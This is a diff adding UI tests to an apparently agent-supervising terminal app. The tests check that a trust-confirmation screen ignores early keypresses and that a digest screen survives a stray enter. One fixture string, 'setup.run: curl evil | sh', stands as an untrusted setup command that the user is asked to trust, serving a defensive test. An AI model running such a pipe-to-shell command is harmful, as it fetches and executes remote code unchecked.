@@ -7,9 +7,14 @@ from collections.abc import Awaitable, Callable
 from typing import TypeVar
 
 from cockpit.domain.activity import State
+from cockpit.domain.digest import Digest, Line, News, seen_now
+from cockpit.domain.ids import LaneId
+from cockpit.domain.intents import Trust
 from cockpit.services.api import Cockpit, TrustState
+from cockpit.ui.screens.confirm import ConfirmScreen
+from cockpit.ui.screens.digest import DigestScreen
 from tests.ui.drive import opened
-from tests.ui.fake import FakeSupervisor, fleet_of, view
+from tests.ui.fake import NOW, FakeSupervisor, fleet_of, view
 
 T = TypeVar("T")
 
@@ -42,6 +47,50 @@ async def test_trust_is_not_said_by_a_yes_to_an_agent() -> None:
         await session.press("y")
         assert slow.intents == []
         assert slow.fake_live.typed == [("%1", "y")]
+
+
+async def test_a_yes_on_its_way_is_no_trust() -> None:
+    fleet = fleet_of(view("alpha", 1, State.ASKING))
+    async with opened(fleet) as session:
+        fake = session.supervisor
+        fake.fake.trusted = TrustState("d2", False, ("setup.run: curl evil | sh",))
+        session.app.do(session.app.config_news._ask())
+        await session.until(lambda: isinstance(session.app.screen, ConfirmScreen))
+        await session.pilot.press("y")
+        await session.pilot.press("y", "enter", "y")
+        assert isinstance(session.app.screen, ConfirmScreen) and fake.intents == []
+        assert "yes, trust it" not in session.text(), "it names no key that it does not take"
+        await session.settle()
+        assert "yes, trust it" in session.text()
+        await session.press("y")
+        assert fake.intents == [Trust("d2")]
+
+
+async def test_a_question_that_was_asked_for_takes_keys_at_once() -> None:
+    fleet = fleet_of(view("alpha", 1))
+    async with opened(fleet) as session:
+        fake = session.supervisor
+        fake.fake.trusted = TrustState("d2", False, ("setup.run: make",))
+        session.app.perform("trust")
+        await session.until(lambda: isinstance(session.app.screen, ConfirmScreen))
+        assert "yes, trust it" in session.text()
+        await session.pilot.press("y")
+        await session.until(lambda: fake.intents == [Trust("d2")])
+
+
+async def test_an_enter_on_its_way_does_not_close_the_digest() -> None:
+    fleet = fleet_of(view("alpha", 1))
+    async with opened(fleet) as session:
+        fake = session.supervisor
+        line = Line(News.LANDED, LaneId("alpha"), "land alpha", NOW - 60)
+        fake.fake.answers["digest"] = Digest(NOW - 600, (line,))
+        session.app.do(session.app.away.tell(seen_now(fleet, NOW - 600), asked=False))
+        await session.until(lambda: isinstance(session.app.screen, DigestScreen))
+        await session.pilot.press("enter", "escape")
+        assert isinstance(session.app.screen, DigestScreen)
+        await session.press("escape")
+        await session.press("escape")
+        assert session.app.screen is session.app.board
 
 
 async def test_parking_is_not_said_by_the_text_of_a_prompt() -> None:
